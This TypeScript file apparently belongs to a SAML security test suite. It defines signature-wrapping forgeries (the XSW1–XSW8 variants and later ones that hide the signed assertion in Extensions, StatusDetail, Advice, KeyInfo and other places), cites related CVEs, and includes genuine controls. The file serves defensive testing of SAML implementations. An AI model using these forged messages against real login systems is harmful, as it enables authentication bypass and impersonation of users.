import type { AttackClass, Means } from '../attack.ts'
import {
  afterIssuer,
  appended,
  forgedCopy,
  genuine,
  messageOf,
  replaced,
  signatureOf,
  signedAssertion,
  signedResponse,
  unsigned,
} from '../forging.ts'

/** The signature with a piece at its end, which no digest covers. */
const holding = (signature: string, piece: string): string => appended(signature, piece)
const inObject = (piece: string): string => `<ds:Object>${piece}</ds:Object>`

/** The forged assertion in the place of the signed one, with its signature, in which the signed one stands. */
const around = (means: Means, shape: (signature: string, original: string) => string): string => {
  const signed = signedAssertion(means)
  return messageOf(means, afterIssuer(forgedCopy(signed), shape(signatureOf(signed), unsigned(signed))))
}

/** The forged assertion in its place, the signed one whole at another place of the schema. */
const hiddenIn = (place: (message: string, signed: string) => string) => (means: Means) => {
  const signed = signedAssertion(means)
  return place(messageOf(means, forgedCopy(signed)), signed)
}

const inSubjectData = (message: string, signed: string): string =>
  message.replace(
    /<saml:SubjectConfirmationData([^>]*)\/>/,
    `<saml:SubjectConfirmationData$1>${signed}</saml:SubjectConfirmationData>`,
  )

/** The eight variants, numbered like in SAML Raider, and later ones. */
export const wrapping: AttackClass = {
  name: 'signature wrapping',
  sources: [
    'Somorovsky et al., On Breaking SAML, USENIX Security 2012',
    'CVE-2020-5390',
    'CVE-2022-41912',
    'CVE-2025-47949',
  ],
  controls: [
    { name: 'a signed assertion', forge: genuine },
    { name: 'a signed response', only: 'acs', forge: signedResponse },
    {
      name: 'both signed',
      only: 'acs',
      forge: means => means.idp.response({ ...means.parts, signs: ['assertion', 'response'] }),
    },
  ],
  attacks: [
    {
      name: 'XSW1: forged response, the signed one in its signature',
      only: 'acs',
      reasons: ['several-assertions'],
      forge: means => {
        const signed = signedResponse(means)
        return afterIssuer(forgedCopy(signed), holding(signatureOf(signed), unsigned(signed)))
      },
    },
    {
      name: 'XSW2: forged response, the signed one before its signature',
      only: 'acs',
      reasons: ['several-assertions'],
      forge: means => {
        const signed = signedResponse(means)
        return afterIssuer(forgedCopy(signed), unsigned(signed) + signatureOf(signed))
      },
    },
    {
      name: 'XSW3: forged assertion before the signed one',
      only: 'acs',
      reasons: ['several-assertions'],
      forge: means => {
        const signed = signedAssertion(means)
        return messageOf(means, forgedCopy(signed) + signed)
      },
    },
    {
      name: 'XSW3 reversed: forged assertion after the signed one',
      source: 'CVE-2021-28091',
      only: 'acs',
      reasons: ['several-assertions'],
      forge: means => {
        const signed = signedAssertion(means)
        return messageOf(means, signed + forgedCopy(signed))
      },
    },
    {
      name: 'XSW4: the signed assertion within the forged one',
      reasons: ['several-assertions'],
      forge: means => {
        const signed = signedAssertion(means)
        return messageOf(means, appended(forgedCopy(signed), signed))
      },
    },
    {
      name: 'XSW5: forged assertion with the signature, the original at the end',
      reasons: ['several-assertions'],
      forge: means => {
        const signed = signedAssertion(means)
        return appended(messageOf(means, afterIssuer(forgedCopy(signed), signatureOf(signed))), unsigned(signed))
      },
    },
    {
      name: 'XSW6: forged assertion with the signature, the original within it',
      reasons: ['several-assertions'],
      forge: means => around(means, holding),
    },
    {
      name: 'XSW7: forged assertion in Extensions, before the signed one',
      only: 'acs',
      reasons: ['several-assertions'],
      forge: means => {
        const signed = signedAssertion(means)
        return afterIssuer(messageOf(means, signed), `<samlp:Extensions>${forgedCopy(signed)}</samlp:Extensions>`)
      },
    },
    {
      name: 'XSW8: forged assertion with the signature, the original in an Object of it',
      reasons: ['several-assertions'],
      forge: means => around(means, (signature, original) => holding(signature, inObject(original))),
    },
    {
      name: 'the signed assertion in Extensions',
      source: 'OneUptime issue 2949 (2026)',
      only: 'acs',
      reasons: ['several-assertions'],
      forge: hiddenIn((message, signed) => afterIssuer(message, `<samlp:Extensions>${signed}</samlp:Extensions>`)),
    },
    {
      name: 'the signed assertion in StatusDetail',
      only: 'acs',
      reasons: ['several-assertions'],
      forge: hiddenIn((message, signed) =>
        replaced(message, '</samlp:Status>', `<samlp:StatusDetail>${signed}</samlp:StatusDetail></samlp:Status>`),
      ),
    },
    {
      name: 'the signed assertion in Advice',
      reasons: ['several-assertions'],
      forge: hiddenIn((message, signed) =>
        replaced(message, '</saml:Conditions>', `</saml:Conditions><saml:Advice>${signed}</saml:Advice>`),
      ),
    },
    {
      name: 'the signed assertion in an attribute value',
      reasons: ['several-assertions'],
      forge: hiddenIn((message, signed) =>
        replaced(
          message,
          '</saml:AuthnStatement>',
          `</saml:AuthnStatement><saml:AttributeStatement><saml:Attribute Name="x"><saml:AttributeValue>${signed}</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>`,
        ),
      ),
    },
    {
      name: 'the signed assertion in the confirmation data',
      reasons: ['several-assertions'],
      forge: hiddenIn(inSubjectData),
    },
    {
      name: 'the signed assertion in the KeyInfo of an invalid signature',
      reasons: ['several-assertions'],
      forge: means => {
        const signed = signedAssertion(means)
        const signature = replaced(
          signatureOf(signed),
          /<ds:KeyInfo>.*<\/ds:KeyInfo>/s,
          `<ds:KeyInfo>${signed}</ds:KeyInfo>`,
        )
        return messageOf(means, afterIssuer(forgedCopy(signed), signature))
      },
    },
    {
      name: 'a signed response within a forged one',
      only: 'acs',
      reasons: ['several-assertions'],
      forge: means => appended(messageOf(means, forgedCopy(signedAssertion(means))), signedResponse(means)),
    },
    {
      name: 'the signed assertion beside the response, in its own root',
      source: 'CVE-2022-39299',
      only: 'acs',
      reasons: ['not-xml'],
      forge: means => {
        const signed = signedAssertion(means)
        return `<both>${signed}${messageOf(means, forgedCopy(signed))}</both>`
      },
    },
  ],
}
